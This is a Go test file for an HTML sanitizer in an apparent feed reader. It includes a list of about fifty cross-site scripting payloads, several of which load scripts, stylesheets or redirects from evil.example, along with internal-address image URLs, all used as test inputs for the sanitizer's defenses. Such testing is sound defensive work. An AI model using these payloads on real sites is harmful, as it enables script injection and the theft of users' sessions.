package markup

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"tickertape/backend/event"
)

// attacks are ways that have worked somewhere to run or load something.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<<SCRIPT>alert("XSS");//\<</SCRIPT>`,
	`<script/src="//evil.example/.js">`,
	`<img src=x onerror=alert(1)>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
	`<IMG SRC=" &#14;  javascript:alert('XSS');">`,
	`<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>`,
	`<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
	`<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;(1)>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img src="data:text/html,<script>alert(1)</script>">`,
	`<img srcset="http://evil.example/a 1x" src="http://a.example/b.png">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\nscript:alert(1)\">x</a>",
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<a href="//evil.example" onclick="alert(1)" target="_top">x</a>`,
	`<a href="http://a.example/" ping="http://evil.example/">x</a>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object><embed src="evil.swf">`,
	`<form action="http://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>`,
	`<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
	`<base href="http://evil.example/">`,
	`<link rel=stylesheet href="http://evil.example/x.css">`,
	`<style>@import 'http://evil.example/x.css';</style>`,
	`<div style="background:url(http://evil.example/x)">x</div>`,
	`<div style="width: expression(alert(1))">x</div>`,
	`<p id="link-1" class="address" onmouseover=alert(1)>x</p>`,
	`<body onload=alert(1)><table background="javascript:alert(1)">`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`,
	`<template><script>alert(1)</script></template>`,
	`<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>`,
	`<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><p xmlns:x="javascript:alert(1)">x</p>`,
	"<a href=\"http://a.example/\x00javascript:alert(1)\">x</a>",
	`</main></body></html><script>alert(1)</script>`,
	`<p>unclosed <b attr="`,
}

// harmless is every element that a page may have, and the attributes with it.
var harmless = map[string][]string{
	"a": {"href", "title"}, "img": {"src", "alt", "loading"}, "span": {"class"}, "td": {"colspan", "rowspan"}, "th": {"colspan", "rowspan"},
}

// check fails unless the page is harmless, read as a browser reads it.
func check(t *testing.T, source string, images bool) {
	t.Helper()
	p := Render(source, "https://feed.example/dir/", images)
	for _, text := range []string{p.Body, p.Document("dark")} {
		doc, err := html.Parse(strings.NewReader(text))
		if err != nil {
			t.Fatalf("%q: %v", source, err)
		}
		for n := range doc.Descendants() {
			if n.Type == html.ElementNode && !isHarmless(n, images) {
				t.Errorf("%q became %q: %s %v", source, p.Body, n.Data, n.Attr)
			}
		}
	}
	for _, link := range p.Links {
		if !strings.HasPrefix(link.URL, "http://") && !strings.HasPrefix(link.URL, "https://") {
			t.Errorf("%q leads to %q", source, link.URL)
		}
	}
}

func isHarmless(n *html.Node, images bool) bool {
	switch n.Data {
	case "html", "head", "body", "main", "title", "meta", "style": // of the page around it
		return len(n.Attr) <= 2 && !slices.ContainsFunc(n.Attr, func(a html.Attribute) bool {
			return !slices.Contains([]string{"data-theme", "charset", "name", "content"}, a.Key)
		}) && (n.Data != "style" || n.FirstChild.Data == style)
	case "p":
		if attribute(n, "class") == "address" { // of the page's own list of addresses
			return len(n.Attr) == 2 && strings.HasPrefix(attribute(n, "id"), "link-")
		}
	case "img":
		if !images {
			return false
		}
	}
	for _, a := range n.Attr {
		source := a.Key != "src" || strings.HasPrefix(a.Val, "http://") || strings.HasPrefix(a.Val, "https://") || strings.HasPrefix(a.Val, "data:image/") && !strings.Contains(a.Val, "svg")
		target := a.Key != "href" || strings.HasPrefix(a.Val, "#link-")
		if !slices.Contains(harmless[n.Data], a.Key) || !source || !target || a.Key == "class" && a.Val != "image" {
			return false
		}
	}
	return !slices.Contains([]string{"script", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "link", "base", "template", "video", "audio"}, n.Data)
}

func TestNothingOfAFeedsHTMLRunsLoadsOrLeadsAway(t *testing.T) {
	for _, attack := range attacks {
		check(t, attack, false)
		check(t, attack, true)
		check(t, "<p>before</p>"+attack+"<p>after</p>", true)
	}
}

func FuzzRender(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack, true)
	}
	f.Fuzz(check)
}

func TestLinksAreNumberedAndStayInThePage(t *testing.T) {
	p := Render(`<p><a href="/a?x=1&amp;y=2">One</a>, <a href="https://other.example/"><b>Two</b></a>, <a href="/a?x=1&amp;y=2">One again</a>, `+
		`<a href="mailto:a@b.example">mail</a> <a href="#top">up</a> <a href="https://bank.example@evil.example/"><img src="x.png" alt="three"></a></p>`, "https://feed.example/dir/", false)
	want := []Link{
		{"One", "https://feed.example/a?x=1&y=2"},
		{"Two", "https://other.example/"},
		{"three", "https://evil.example/"},
	}
	if !slices.Equal(p.Links, want) {
		t.Errorf("the links are %+v", p.Links)
	}
	for _, part := range []string{
		`<a href="#link-1" title="https://feed.example/a?x=1&amp;y=2">One<sup>1</sup></a>`, `<b>Two</b><sup>2</sup>`, `One again<sup>1</sup>`, `, mail <a>`, `<a>up</a>`,
	} {
		if !strings.Contains(p.Body, part) {
			t.Errorf("no %s in %s", part, p.Body)
		}
	}
	if doc := p.Document(""); !strings.Contains(doc, `<p class="address" id="link-1"><b>1</b> https://feed.example/a?x=1&amp;y=2</p>`) {
		t.Errorf("the address isn't in %s", doc)
	}
}

func TestPicturesWaitUntilTheyAreAskedFor(t *testing.T) {
	source := `<p><img src="a.png" alt="A cat"><img src="https://count.example/p.gif" width="1" height="1"><img src="http://192.168.1.1/reboot"><img src="http://router/x">` +
		`<img src="http://0x7f.1/x"><img src="http://[::1]/x"><img src="data:image/png;base64,aGVsbG8="></p>`
	without, with := Render(source, "https://feed.example/", false), Render(source, "https://feed.example/", true)
	if want := `<p><span class="image">A cat</span><span class="image"></span></p>`; without.Body != want || without.Images != 2 {
		t.Errorf("%d pictures: %s", without.Images, without.Body)
	}
	if want := `<p><img src="https://feed.example/a.png" alt="A cat" loading="lazy"/><img src="data:image/png;base64,aGVsbG8=" alt="" loading="lazy"/></p>`; with.Body != want || with.Images != 2 {
		t.Errorf("%d pictures: %s", with.Images, with.Body)
	}
	if policy := Policy(false, []string{"'self'"}); !strings.Contains(policy, "img-src 'none'") || !strings.HasPrefix(policy, "sandbox; default-src 'none'") {
		t.Errorf("the policy is %s", policy)
	}
}

func TestTheHTMLOfAnEventIsTheLongestOfItsTextsWithTags(t *testing.T) {
	for _, row := range []struct {
		data string
		json bool
		want string
	}{
		{`{"text":"<p>short</p>","html":"<p>rather longer</p>","other":"longer than either, but without a tag"}`, true, "<p>rather longer</p>"},
		{`{"a":[{"b":{"c":"x<br>y"}}]}`, true, "x<br>y"},
		{`"\u003cb\u003ebold\u003c/b\u003e"`, true, "<b>bold</b>"},
		{`{"text":"Vec<String> and <alice@example.com> and a < b > c"}`, true, ""},
		{`<p>plain</p>`, false, "<p>plain</p>"},
		{strings.Repeat("[", 30_000) + `"<p>x</p>"` + strings.Repeat("]", 30_000), true, ""},
		{``, false, ""},
	} {
		got, found := Find(&event.Event{Data: []byte(row.data), JSON: row.json})
		if found != (row.want != "") || found && got != row.want {
			t.Errorf("%.60s: %q", row.data, got)
		}
	}
}

func TestAPageIsBoundedAndSaysSo(t *testing.T) {
	if p := Render(strings.Repeat("<p>é</p>", maxSource/8), "", false); !p.Cut || len(p.Body) > maxSource+10 {
		t.Errorf("%d bytes, cut %v", len(p.Body), p.Cut)
	}
	if p := Render(strings.Repeat("<div>", 100_000)+"deep", "", false); !strings.Contains(p.Body, "deep") {
		t.Errorf("%.100s", p.Body)
	}
}
